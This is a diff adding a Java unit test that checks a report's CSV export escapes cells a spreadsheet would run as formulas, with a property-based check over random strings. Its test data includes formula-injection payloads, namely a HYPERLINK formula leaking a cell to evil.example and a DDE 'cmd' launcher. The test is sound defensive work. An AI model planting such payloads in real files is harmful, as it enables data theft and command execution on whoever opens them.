@@ -3,6 +3,8 @@ package org.opsbook.rules.report;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.opsbook.rules.report.ReportTimes.SHANGHAI;
 import static org.opsbook.rules.report.ReportTimes.at;
+import static org.quicktheories.QuickTheory.qt;
+import static org.quicktheories.generators.SourceDSL.strings;
 
 import java.time.Instant;
 import java.util.List;
@@ -101,5 +103,31 @@ class SummaryTablesTest {
     List<String> total = t.rows().get(t.rows().size() - 1);
     assertThat(total.get(0)).isEqualTo("合计");
     assertThat(Integer.parseInt(total.get(7))).isEqualTo(c.total().total()).isPositive();
+  }
+
+  @Test
+  @DisplayName("a cell a spreadsheet would run as a formula is written to CSV as text; a plain number stays a number")
+  void csvCellsAreNeverFormulas() {
+    SummaryTable t = new SummaryTable("t", List.of("a", "b", "c", "d", "e", "f"), List.of(List.of(
+        "=HYPERLINK(\"http://evil.example/?\"&A2,\"详情\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-5",
+        "-2+3")));
+    assertThat(t.toCsv()).isEqualTo("a,b,c,d,e,f\r\n"
+        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"详情\"\")\","
+        + "'+cmd|' /C calc'!A0,'@SUM(1+1),'\t=1+1,-5,'-2+3\r\n");
+    qt().withExamples(2_000).forAll(strings().allPossible().ofLengthBetween(0, 8)
+        .mix(strings().betweenCodePoints('\t', '@').ofLengthBetween(1, 6))).checkAssert(cell -> {
+          String field = unquoted(new SummaryTable("t", List.of("h"), List.of(List.of(cell))).toCsv());
+          if (field.equals(cell)) {
+            assertThat(cell).as("written as it is").matches("(?s)([^=+\\-@\t\r].*)?|[+-]?\\d+(\\.\\d+)?");
+          } else {
+            assertThat(field).as("written as text").isEqualTo("'" + cell);
+          }
+        });
+  }
+
+  /** The one field of a CSV with one header and one record, as a spreadsheet reads it (RFC 4180). */
+  private static String unquoted(String csv) {
+    String field = csv.substring("h\r\n".length(), csv.length() - 2);
+    return field.startsWith("\"") ? field.substring(1, field.length() - 1).replace("\"\"", "\"") : field;
   }
 }
